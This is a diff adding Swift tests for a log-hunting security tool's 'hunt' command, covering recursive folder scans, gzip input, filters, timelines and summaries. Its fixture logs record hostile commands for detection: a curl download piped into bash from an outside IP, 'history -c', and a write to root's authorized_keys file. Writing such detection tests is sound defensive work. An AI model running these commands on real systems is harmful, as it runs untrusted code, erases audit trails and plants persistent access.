@@ -1,0 +1,116 @@
+import Foundation
+import Testing
+import VigilTooling
+
+/// `vigil hunt` on a folder, as Chainsaw, Hayabusa and Zircolite users work: recursion, globs,
+/// .gz, bad files skipped and reported, output to a file, a timeline, filters and a summary.
+@Suite struct HuntWorkflowTests {
+    static let clamscan = APIContractTests.root.appendingPathComponent("../shared/corpus/logs/clamav/clamscan_l.log").standardized
+
+    /// A folder of logs: the corpus ClamAV log, a gzipped copy in a subfolder, an SSH log with
+    /// process and file findings of other times and levels, a file of no known format and one to exclude.
+    func huntFolder() throws -> TemporaryDirectory {
+        let folder = TemporaryDirectory()
+        let fileManager = FileManager.default
+        try fileManager.createDirectory(at: folder.url.appendingPathComponent("logs/deep"), withIntermediateDirectories: true)
+        try fileManager.copyItem(at: Self.clamscan, to: folder.url.appendingPathComponent("logs/clamscan.log"))
+        let gzip = Process()
+        gzip.executableURL = URL(fileURLWithPath: "/bin/sh")
+        gzip.arguments = ["-c", "gzip -c '\(Self.clamscan.path)' > '\(folder.path("logs/deep/clamscan-old.log.gz"))'"]
+        try gzip.run()
+        gzip.waitUntilExit()
+        try folder.write("logs/deep/garbage.bin", "\u{1}\u{2}\u{3} not a log at all")
+        try folder.write("logs/skip-me.log", #"{"@timestamp":"2026-01-01T00:00:00Z","hostname":"x","logsource":{"category":"antivirus"},"Signature":"Ignored.Sig"}"#)
+        let lines = [
+            #"{"@timestamp":"2026-03-03T09:00:00Z","logsource":{"category":"process_creation","product":"linux"},"CommandLine":"curl -fsSL http://203.0.113.9/x | bash","Image":"/usr/bin/bash"}"#,
+            #"{"@timestamp":"2025-01-01T00:00:00Z","logsource":{"category":"process_creation","product":"linux"},"CommandLine":"history -c","Image":"/usr/bin/bash"}"#,
+            #"{"@timestamp":"2026-03-03T09:05:00Z","logsource":{"category":"file_event","product":"linux"},"TargetFilename":"/root/.ssh/authorized_keys","Image":"/usr/bin/vi"}"#,
+        ]
+        try folder.write("logs/deep/process.ndjson", lines.joined(separator: "\n"))
+        return folder
+    }
+
+    func jsonLines(_ text: String) -> [[String: Any]] {
+        text.split(separator: "\n").compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
+    }
+
+    @Test func aFolderIsReadRecursivelyWithGlobsAndGzipAndABadFileIsSkippedNotFatal() throws {
+        let folder = try huntFolder()
+        let result = try vigil(["hunt", "--rules", "builtin", "--exclude", "skip-*", "--output-format", "jsonl", "--hostname", "triage-box", "logs"],
+                               in: folder.url)
+        #expect(result.status == 1, "a skipped file makes the exit code 1")
+        let matches = jsonLines(result.stdout)
+        let files = Set(matches.compactMap { $0["file"] as? String })
+        #expect(files == ["logs/clamscan.log", "logs/deep/clamscan-old.log.gz", "logs/deep/process.ndjson"], "\(files)")
+        #expect(matches.allSatisfy { $0["hostname"] as? String == "triage-box" || $0["file"] as? String != "logs/deep/process.ndjson" })
+        // Every file gets a line on stderr; the bad one says why it was skipped.
+        #expect(result.stderr.contains("logs/deep/garbage.bin: skipped: cannot tell the format"))
+        #expect(result.stderr.contains("logs/clamscan.log: clamav (detected), 9 records, 0 rejected, 9 matches"))
+        #expect(result.stderr.contains("logs/deep/clamscan-old.log.gz: clamav (detected), 9 records"))
+        #expect(!result.stderr.contains("skip-me"))
+        // MITRE techniques and tags ride along in every format.
+        let eicar = try #require(matches.first { ($0["title"] as? String) == "EICAR test file detected" })
+        #expect(eicar["mitre_techniques"] as? [String] == ["T1588.001"])
+        #expect((eicar["tags"] as? [String])?.contains("attack.t1588.001") == true)
+        // Only the named files when globs include.
+        let included = try vigil(["hunt", "--rules", "builtin", "--include", "*.gz", "--output-format", "jsonl", "logs"], in: folder.url)
+        #expect(included.status == 0, "\(included.stderr)")
+        #expect(Set(jsonLines(included.stdout).compactMap { $0["file"] as? String }) == ["logs/deep/clamscan-old.log.gz"])
+    }
+
+    @Test func theTableSurvivesALaterBadFileAndGoesToTheOutputFile() throws {
+        let folder = try huntFolder()
+        let result = try vigil(["hunt", "--rules", "builtin", "--output", "matches.txt", "logs/clamscan.log", "logs/deep/garbage.bin", "missing.log"],
+                               in: folder.url)
+        #expect(result.status == 1)
+        #expect(result.stdout.isEmpty)
+        let table = try String(contentsOf: folder.url.appendingPathComponent("matches.txt"), encoding: .utf8)
+        #expect(table.hasPrefix("SEVERITY"))
+        #expect(table.split(separator: "\n").count == 10, "the header and the 9 matches of the first file")
+        #expect(result.stderr.contains("missing.log: skipped:"))
+        #expect(result.stderr.contains("9 matches in 3 files (9 records); 2 skipped"))
+    }
+
+    @Test func theTimelineSortsAcrossFilesAndFiltersNarrowIt() throws {
+        let folder = try huntFolder()
+        let arguments = ["hunt", "--rules", "builtin", "--exclude", "*.bin", "--exclude", "skip-*", "--output-format", "jsonl"]
+        let timeline = jsonLines(try vigil(arguments + ["--timeline", "logs"], in: folder.url).stdout)
+        let times = timeline.compactMap { $0["time"] as? String }
+        #expect(times.count == timeline.count && times.count >= 20)
+        #expect(times == times.sorted(), "the timeline is in event time order")
+        #expect(timeline.first?["file"] as? String == "logs/deep/process.ndjson", "the 2025 event comes first")
+
+        let high = jsonLines(try vigil(arguments + ["--min-level", "high", "logs"], in: folder.url).stdout)
+        #expect(!high.isEmpty && high.allSatisfy { ["high", "critical"].contains($0["severity"] as? String ?? "") })
+        #expect(high.count < timeline.count)
+
+        let tagged = jsonLines(try vigil(arguments + ["--tag", "ATTACK.T1588.001", "logs"], in: folder.url).stdout)
+        #expect(tagged.count == 8 && tagged.allSatisfy { $0["title"] as? String == "EICAR test file detected" }, "\(tagged.count)")
+        let byRule = jsonLines(try vigil(arguments + ["--rule", "piped into a shell", "logs"], in: folder.url).stdout)
+        #expect(byRule.count == 1)
+
+        let windowed = jsonLines(try vigil(arguments + ["--since", "2026-03-01T00:00:00Z", "--until", "2026-03-04T00:00:00Z", "logs"],
+                                           in: folder.url).stdout)
+        #expect(windowed.map { $0["file"] as? String } == ["logs/deep/process.ndjson", "logs/deep/process.ndjson"])
+        let bad = try vigil(arguments + ["--min-level", "severe", "logs"], in: folder.url)
+        #expect(bad.status == 64 && bad.stderr.contains("--min-level 'severe' is unknown"))
+    }
+
+    @Test func theSummaryCountsPerRuleLevelHostAndFileWithFirstAndLastTimes() throws {
+        let folder = try huntFolder()
+        let result = try vigil(["hunt", "--rules", "builtin", "--exclude", "*.bin", "--exclude", "skip-*", "--summary", "--output-format", "jsonl", "logs"],
+                               in: folder.url)
+        #expect(result.status == 0, "\(result.stderr)")
+        let rows = jsonLines(result.stdout).filter { $0["group"] != nil }
+        let files = rows.filter { $0["group"] as? String == "file" }
+        #expect(files.count == 3)
+        #expect(files.first { $0["key"] as? String == "logs/clamscan.log" }?["matches"] as? Int == 9)
+        let eicar = try #require(rows.first { $0["group"] as? String == "rule" && $0["key"] as? String == "EICAR test file detected" })
+        #expect(eicar["matches"] as? Int == 8)
+        #expect(eicar["first"] as? String == "2026-11-27T20:23:21.000Z")
+        let levels = rows.filter { $0["group"] as? String == "level" }.compactMap { $0["key"] as? String }
+        #expect(Set(levels).isSubset(of: ["informational", "low", "medium", "high", "critical"]) && levels.contains("high"))
+        let total = rows.filter { $0["group"] as? String == "level" }.compactMap { $0["matches"] as? Int }.reduce(0, +)
+        #expect(total == jsonLines(result.stdout).filter { $0["rule_id"] != nil }.count)
+    }
+}
